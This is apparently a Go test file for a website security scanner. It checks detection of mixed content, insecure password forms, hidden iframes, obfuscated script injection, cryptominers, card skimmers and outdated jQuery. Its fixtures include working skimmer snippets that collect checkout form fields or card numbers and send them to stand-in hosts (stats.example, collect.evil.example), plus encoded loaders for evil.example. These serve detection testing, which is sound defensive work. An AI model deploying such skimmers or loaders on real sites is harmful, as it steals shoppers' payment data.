package content_test

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/scanledger/scanledger/adapters/scanners"
	"github.com/scanledger/scanledger/adapters/scanners/content"
	"github.com/scanledger/scanledger/adapters/scanners/scantest"
	"github.com/scanledger/scanledger/domain"
)

// pageOver scans a site of one page, over https or http.
func pageOver(t *testing.T, start func(http.Handler) *httptest.Server, body string) *scantest.Told {
	t.Helper()
	s, err := scan(t.Context(), t, content.Options{}, serve(t, start, site{"/": body}), domain.Quick)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestPages(t *testing.T) {
	const (
		active, passive = "content/mixed/active", "content/mixed/passive"
		clearPassword   = "content/form/password-clear-text"
		frame           = "content/hidden-frame"
	)
	secure, plain := httptest.NewTLSServer, httptest.NewServer
	for _, c := range []struct {
		start func(http.Handler) *httptest.Server
		body  string
		ids   []string
	}{
		{secure, `<script src=http://127.0.0.1:1/a.js></script>`, []string{active}},
		{secure, `<link rel="x StyleSheet" href=" HTTP://127.0.0.1:1/a.css ">`, []string{active}},
		{secure, `<iframe src=http://127.0.0.1:1/></iframe><object data=http://127.0.0.1:1/x></object>`, []string{active}},
		{secure, `<style>@import "http://127.0.0.1:1/a.css"; p { background: url(http://127.0.0.1:1/b.png) }</style>`, []string{active, passive}},
		{secure, `<img src=http://127.0.0.1:1/a.png><video poster=http://127.0.0.1:1/p.jpg></video>`, []string{passive}},
		{secure, `<img srcset="/b.png 1x, http://127.0.0.1:1/a.png 2x">`, []string{passive}},
		{secure, `<p style="background:url('http://127.0.0.1:1/a.png')">`, []string{passive}},
		{secure, `<base href="http://127.0.0.1:1/"><img src=a.png>`, []string{passive}},
		{secure, `<a href=http://127.0.0.1:1/>x</a><img src=//127.0.0.1:1/a.png><img data-src=http://127.0.0.1:1/a.png>`, nil},
		{secure, `<link rel=canonical href=http://127.0.0.1:1/><template><img src=http://127.0.0.1:1/a.png></template>`, nil},
		{secure, `<!-- <img src=http://127.0.0.1:1/a.png> -->`, nil},
		{secure, `<meta http-equiv=Content-Security-Policy content="default-src *; upgrade-insecure-requests"><img src=http://127.0.0.1:1/a.png>`, nil},
		{plain, `<img src=http://127.0.0.1:1/a.png>`, nil},

		{plain, `<form method=post action=/login><input type=" Password "></form>`, []string{clearPassword}},
		{secure, `<form method=post action=http://127.0.0.1:1/login><input type=password></form>`, []string{clearPassword}},
		{secure, `<form method=post><input type=password><button formaction=http://127.0.0.1:1/></form>`, []string{clearPassword}},
		{secure, `<form method=post action=http://127.0.0.1:1/search><input name=q></form>`, []string{"content/form/insecure-action"}},
		{plain, `<form method=post><input name=q></form>`, []string{"content/form/clear-text"}},
		{plain, `<form><input name=q></form>`, nil},
		{secure, `<form method=GET action=/login><input type=password></form>`, []string{"content/form/password-in-url"}},
		{secure, `<form action=/login><input type=password></form><form method=post><input type=password></form>`, nil},

		{secure, `<iframe src=https://evil.example/ width=1 height=1></iframe>`, []string{frame}},
		{secure, `<iframe src=https://evil.example/ style="Display : NONE"></iframe>`, []string{frame}},
		{secure, `<div style="position:absolute;left:-9999px"><p><iframe src=https://evil.example/></iframe></div>`, []string{frame}},
		{secure, `<div hidden><iframe src=https://evil.example/></iframe></div>`, []string{frame}},
		{secure, `<iframe src=https://maps.example/ width=600 height=1></iframe>`, nil},
		{secure, `<iframe src=/own width=0 height=0></iframe><iframe style="display:none"></iframe>`, nil},
		{secure, `<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=1" height="0" width="0" style="display:none"></iframe></noscript>`, nil},
		{secure, `<iframe src=https://js.stripe.com/v3/ style="display:none"></iframe>`, nil},
	} {
		s := pageOver(t, c.start, "<!doctype html><title>x</title>"+c.body)
		t.Log(c.body)
		want(t, s, c.ids...)
		for _, rule := range []string{"mixed-content", "forms", "hidden-frames", "injected-scripts", "skimmers", "vulnerable-libraries", "debug-pages"} {
			if s.Coverage[rule].Outcome != domain.Tested {
				t.Errorf("%s is %+v", rule, s.Coverage[rule])
			}
		}
	}
}

const skimming = `if (/onepage|checkout/.test(location.href)) { var d = {}; document.querySelectorAll("input, select").forEach(function (e) { d[e.name] = e.value; });
	var i = new Image(); i.src = atob("aHR0cHM6Ly9zdGF0cy5leGFtcGxlL2M=") + "?" + btoa(JSON.stringify(d)); } var f = "/checkout/cart";`

func TestScripts(t *testing.T) {
	numbers := func(text string) string {
		var codes []string
		for _, b := range []byte(text) {
			codes = append(codes, fmt.Sprint(b))
		}
		return "String.fromCharCode(" + strings.Join(codes, ", ") + ")"
	}
	const injected, skimmer = "content/injected/script", "content/skimmer"
	for _, c := range []struct{ script, id string }{
		{"var s = document.createElement('script'); s.src = " + numbers("https://stat.evil.example/a.js") + ";", injected},
		{"document.write(" + numbers("<script src=//evil.example>") + ")", injected},
		{"var s = " + numbers("ordinary words in numbers") + ";", ""},
		{"eval(atob('" + strings.Repeat("QUJD", 40) + "'))", injected},
		{"eval(atob('QUJD'))", ""},
		{"eval(String.fromCharCode(" + strings.Repeat("97,", 30) + "97))", injected},
		{`document.write(unescape("%3Ciframe src='//evil.example'%3E"))`, injected},
		{`document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));`, ""},
		{`var m = new CoinHive.Anonymous("key"); m.start();`, "content/injected/miner"},
		{`// pays in coin, hive of bees`, ""},
		{skimming, skimmer},
		{`document.forms[0].addEventListener("submit", function () { var c = document.getElementById("cc-number").value;
			fetch("https://collect.evil.example/x", {method: "POST", body: JSON.stringify({cardnumber: c, cvv: 1})}); });`, skimmer},
		{`document.forms[0].addEventListener("submit", function () { fetch("https://api.stripe.com/v1/tokens", {body: JSON.stringify({card_number: 1, cvc: 2})}); });`, ""},
		{`document.forms[0].addEventListener("submit", function () { fetch("/pay", {body: JSON.stringify({card_number: 1, cvc: 2})}); });`, ""},
		{`addEventListener("submit", function () { fetch("https://stats.example/x", {body: JSON.stringify({page: location.href})}); });`, ""},
	} {
		var ids []string
		if c.id != "" {
			ids = []string{c.id}
		}
		s := look(t, site{"/": home + "<script src=/app.js></script>", "/app.js": c.script}, domain.Quick)
		t.Logf("%.80s", c.script)
		want(t, s, ids...)
		s = look(t, site{"/": home + "<script>" + strings.ReplaceAll(c.script, "</script>", "") + "</script>"}, domain.Quick)
		want(t, s, ids...)
	}
}

func TestAScriptThatIsNotThere(t *testing.T) {
	s := look(t, site{"/": home + "<script src=http://127.0.0.1:1/a.js></script><script src=http://10.0.0.1/b.js></script>"}, domain.Quick)
	if c := s.Coverage["http://127.0.0.1:1/a.js"]; c.Outcome != domain.Skipped || c.Reason == "" {
		t.Errorf("where nobody is: %+v", c)
	}
	if c := s.Coverage["http://10.0.0.1/b.js"]; c.Outcome != domain.Refused || c.Reason == "" {
		t.Errorf("where the guard lets nobody go: %+v", c)
	}
}

func TestLibraries(t *testing.T) {
	const old = "/*! jQuery v1.8.3 jquery.com | jquery.org/license */"
	s := look(t, site{
		"/":                    home + `<script src=/js/app.js?v=1></script><script src=/js/app.js?v=1#x></script><script src=/jquery-3.4.1.min.js></script><script src=/jquery-1.4.2.js></script><script src=/bootstrap-3.0.0.js></script><script src=/404/jquery-1.2.3.js></script><script>/*! jQuery Migrate v1.2.1 */</script>`,
		"/js/app.js?v=1":       old,
		"/jquery-3.4.1.min.js": "minified",
		"/jquery-1.4.2.js":     "/*! jQuery v3.7.1 | (c) OpenJS */", // what it says is right
		"/bootstrap-3.0.0.js":  "<!doctype html><title>not found</title>",
	}, domain.Quick)
	want(t, s, "content/library/jquery@1.8.3@/js/app.js", "content/library/jquery@3.4.1@/jquery-3.4.1.min.js", "content/library/jquery-migrate@1.2.1@/")
	for _, w := range s.Weaknesses {
		if w.Advisory.ID == "content/library/jquery@1.8.3" {
			a := w.Advisory
			if a.Severity != domain.Medium || a.CWE == 0 || !slices.Contains(a.CVE, "CVE-2020-11022") || !strings.Contains(a.Remedy, "3.5.0") ||
				!strings.HasPrefix(a.References[0], "https://") || !strings.Contains(s.Kept[w.Evidence], old) {
				t.Errorf("the advisory is %+v", a)
			}
		}
	}
	for what, outcome := range map[string]domain.Outcome{"/404/jquery-1.2.3.js": domain.Skipped, "/bootstrap-3.0.0.js": domain.Skipped, "/js/app.js?v=1": domain.Tested} {
		found := false
		for line, c := range s.Coverage {
			found = found || strings.HasSuffix(line, what) && c.Outcome == outcome
		}
		if !found {
			t.Errorf("%s is not %s", what, outcome)
		}
	}
	if c := s.Coverage["vulnerable-libraries: vue: 3 rules"]; c.Outcome != domain.Skipped || c.Reason == "" {
		t.Errorf("a rule of the list that cannot be used is %+v", c)
	}
}

// TestEachIsFetchedOnce, whoever names it.
func TestEachIsFetchedOnce(t *testing.T) {
	asked := make(chan string, 10_000)
	all := site{"/": home + `<a href=/login.html>x</a><a href=/logout>x</a><script src=/a.js></script>`, "/login.html": home + `<script src=/a.js></script><a href=/></a>`, "/a.js": "1"}
	look(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked <- r.URL.Path
		all.ServeHTTP(w, r)
	}), domain.Standard)
	close(asked)
	count := map[string]int{}
	for path := range asked {
		if count[path]++; count[path] > 1 {
			t.Errorf("%s is asked for %d times", path, count[path])
		}
	}
	if count["/login.html"] != 1 || count["/a.js"] != 1 || count["/logout"] != 0 {
		t.Errorf("asked for: %v", count)
	}
}

func TestMoreScriptsThanAreRead(t *testing.T) {
	page := home
	for i := range 15 {
		page += fmt.Sprintf("<script src=/%d.js></script>", i)
	}
	s := look(t, site{"/": page}, domain.Quick)
	skipped := 0
	for what, c := range s.Coverage {
		if strings.HasSuffix(what, ".js") && strings.Contains(c.Reason, "10 scripts") {
			skipped++
		}
	}
	if skipped != 5 {
		t.Errorf("%d scripts are skipped", skipped)
	}
}

func TestMalwareLists(t *testing.T) {
	path := filepath.Join(t.TempDir(), "list.txt")
	write := func(text string) {
		t.Helper()
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("# hosts\n0.0.0.0 evil.example\nhttp://half.example/bad?x=1\n" + fmt.Sprintf("%s\n", "A665A45920422F9D417E4867EFDC4FB8A04A1F3FFF1FA07E998E86F7F7A27AE3"))
	scanner, err := content.New(content.Options{Malware: []string{path}})
	if err != nil {
		t.Fatal(err)
	}
	base := serve(t, httptest.NewServer, site{"/": home + `<a href=https://www.evil.example/x>x</a><a href=https://half.example/bad?x=1>x</a><a href=https://half.example/>x</a><script src=/a.js></script>`, "/a.js": "123"})
	s, err := run(t.Context(), t, scanner, base, domain.Quick)
	if err != nil {
		t.Fatal(err)
	}
	want(t, s, "content/malware-listed@https://www.evil.example/x", "content/malware-listed@https://half.example/bad", "content/malware-listed@/a.js")
	if s.Coverage["malware-lists"].Outcome != domain.Tested {
		t.Errorf("the rule is %+v", s.Coverage["malware-lists"])
	}

	write("harmless.example\n") // it is read again
	s, err = run(t.Context(), t, scanner, base, domain.Quick)
	if err != nil {
		t.Fatal(err)
	}
	want(t, s)

	write("harmless.example\nthis is no list\n") // and the one before it stays
	s, err = run(t.Context(), t, scanner, base, domain.Quick)
	if c := s.Coverage["malware-lists: newest of number 1"]; err != nil || c.Outcome != domain.Failed || !strings.Contains(c.Reason, "line 2") {
		t.Errorf("%v, %+v", err, c)
	}
	if _, err := content.New(content.Options{Malware: []string{path}}); err == nil {
		t.Error("a broken list is no fault at the start")
	}
}

func TestWithoutMalwareLists(t *testing.T) {
	s := look(t, site{"/": home}, domain.Quick)
	if c := s.Coverage["malware-lists"]; c.Outcome != domain.Skipped || !strings.Contains(c.Reason, "SCANLEDGER_MALWARE_LISTS") {
		t.Errorf("the rule is %+v", c)
	}
}

func TestOwnLibraries(t *testing.T) {
	path := filepath.Join(t.TempDir(), "list.json")
	list := `{"own": {"vulnerabilities": [{"below": "%s", "severity": "high", "cwe": ["CWE-79"], "identifiers": {"issue": "1"}}], "extractors": {"filecontent": ["own v(§§version§§)"]}}}`
	write := func(text string) {
		t.Helper()
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(fmt.Sprintf(list, "1.0"))
	scanner, err := content.New(content.Options{Libraries: path})
	if err != nil {
		t.Fatal(err)
	}
	base := serve(t, httptest.NewServer, site{"/": home + "<script src=/a.js></script>", "/a.js": "own v1.5; /*! jQuery v1.8.3 */"})
	for _, step := range []struct{ text, ids string }{
		{fmt.Sprintf(list, "1.0"), ""}, {fmt.Sprintf(list, "2.00"), "content/library/own@1.5"}, {"broken", "content/library/own@1.5"},
	} {
		write(step.text)
		s, err := run(t.Context(), t, scanner, base, domain.Quick)
		if err != nil {
			t.Fatal(err)
		}
		want(t, s, strings.Fields(step.ids)...)
		if c := s.Coverage["vulnerable-libraries: newest list"]; (c.Outcome == domain.Failed) != (step.text == "broken") {
			t.Errorf("with %q the list is %+v", step.text, c)
		}
	}
}

// TestNoPage: what is no page is not called clean.
func TestNoPage(t *testing.T) {
	for name, answer := range map[string]http.HandlerFunc{
		"an error": func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusForbidden) },
		"a text":   func(w http.ResponseWriter, r *http.Request) { w.Header().Set("Content-Type", "text/plain") },
		"too deep": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, strings.Repeat("<div>", 5000))
		},
	} {
		s := look(t, answer, domain.Quick)
		for _, rule := range []string{"mixed-content", "forms", "vulnerable-libraries", "malware-lists"} {
			if c := s.Coverage[rule]; c.Outcome != domain.Skipped || c.Reason == "" {
				t.Errorf("%s: %s is %+v", name, rule, c)
			}
		}
		if c := s.Coverage["exposed-files: git"]; c.Outcome != domain.Tested {
			t.Errorf("%s: git is %+v", name, c)
		}
	}
}

func TestNothingAnswers(t *testing.T) {
	server := httptest.NewServer(nil)
	server.Close()
	var not *scanners.NotTested
	s, err := scan(t.Context(), t, content.Options{}, server.URL, domain.Quick)
	if !errors.As(err, &not) || len(s.Weaknesses) != 0 || len(s.Coverage) != 0 {
		t.Errorf("%v, %+v", err, s)
	}
}

// TestAnotherSite is not searched for files: those of the target are.
func TestAnotherSite(t *testing.T) {
	asked := make(chan string, 1000)
	listener, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	other := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked <- r.URL.Path
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, home)
	}))
	other.Listener.Close()
	other.Listener = listener
	other.Start()
	t.Cleanup(other.Close)
	s := look(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			http.Redirect(w, r, other.URL, http.StatusFound)
		case "/.git/HEAD":
			fmt.Fprint(w, "ref: refs/heads/main")
		default:
			http.NotFound(w, r)
		}
	}), domain.Quick)
	close(asked)
	for path := range asked {
		if path != "/" {
			t.Errorf("the other site was asked for %s", path)
		}
	}
	want(t, s, "content/exposed/repository@/.git/HEAD")
}

// TestTheTimeRunsOut in the middle: each rule has its line all the same.
func TestTheTimeRunsOut(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	s, err := scan(ctx, t, content.Options{}, serve(t, httptest.NewServer, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/.git/HEAD" {
			cancel()
			<-r.Context().Done()
		}
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path != "/" {
			w.WriteHeader(http.StatusNotFound)
		}
		fmt.Fprint(w, home)
	})), domain.Quick)
	if !errors.Is(err, context.Canceled) {
		t.Errorf("the error is %v", err)
	}
	if c := s.Coverage["exposed-files: git"]; c.Outcome != domain.TimedOut {
		t.Errorf("git is %+v", c)
	}
	if c := s.Coverage["mixed-content"]; c.Outcome != domain.Tested {
		t.Errorf("mixed-content is %+v", c)
	}
}

// TestHostileSite: nothing that it sends is too much, or gets through as it is.
func TestHostileSite(t *testing.T) {
	s := look(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<!doctype html><title>x</title>")
		for i := range 3000 {
			fmt.Fprintf(w, "<iframe hidden src='http://%d.evil.example/\x1b[31m\u202e'></iframe><script src='http://127.0.0.1:1/%d\u202e.js'></script><a href='/%d'>x</a>", i, i, i)
		}
	}), domain.Quick)
	if len(s.Weaknesses) > 100 || len(s.Coverage) > 5000 {
		t.Errorf("%d weaknesses, %d lines of coverage", len(s.Weaknesses), len(s.Coverage))
	}
	for _, w := range s.Weaknesses {
		if strings.ContainsAny(w.Detail+w.Where, "\x1b\u202e") {
			t.Errorf("%q shows what turns text around", w.Detail)
		}
	}
	for what, c := range s.Coverage {
		if strings.ContainsAny(what+c.Reason, "\x1b\u202e") {
			t.Errorf("%q shows what turns text around", what)
		}
	}
}

// TestManyScripts in one page: those beyond the limit are looked at too.
func TestManyScripts(t *testing.T) {
	s := look(t, site{"/": home + strings.Repeat("<script>1</script>", 5000) + "<script>/*! jQuery v1.8.3 */</script>" + strings.Repeat("<img src=/a.png>", 3000)}, domain.Quick)
	want(t, s, "content/library/jquery@1.8.3@/")
	told := false
	for what, c := range s.Coverage {
		told = told || strings.HasSuffix(what, ": what it names") && c.Outcome == domain.Skipped
	}
	if !told {
		t.Error("nobody says that not all was looked at")
	}
}

func TestSlowScript(t *testing.T) {
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	s, err := scan(ctx, t, content.Options{}, serve(t, httptest.NewServer, site{
		"/": home + "<script src=/a.js></script>", "/a.js": "/*! jQuery v1.8.3 */" + strings.Repeat(`var a=b.document,c="1.2",d=`, 20_000),
	}), domain.Quick)
	if err != nil {
		t.Fatal(err)
	}
	want(t, s, "content/library/jquery@1.8.3")
}

// TestPageBrokenOff holds that what the rest of a page may have is not said to be
// looked for.
func TestPageBrokenOff(t *testing.T) {
	s := look(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("Content-Length", "5000")
		fmt.Fprint(w, home)
	}), domain.Quick)
	want(t, s)
	for _, rule := range []string{"mixed-content", "forms", "hidden-frames", "injected-scripts", "skimmers", "look-alike-hosts", "vulnerable-libraries", "leaked-secrets"} {
		if c := s.Coverage[rule]; c.Outcome != domain.Skipped || !strings.Contains(c.Reason, fmt.Sprintf("only the first %d bytes", len(home))) {
			t.Errorf("%s is %+v", rule, c)
		}
	}
	if c := s.Coverage["debug-pages"]; c.Outcome != domain.Tested {
		t.Errorf("debug-pages is %+v", c)
	}
}
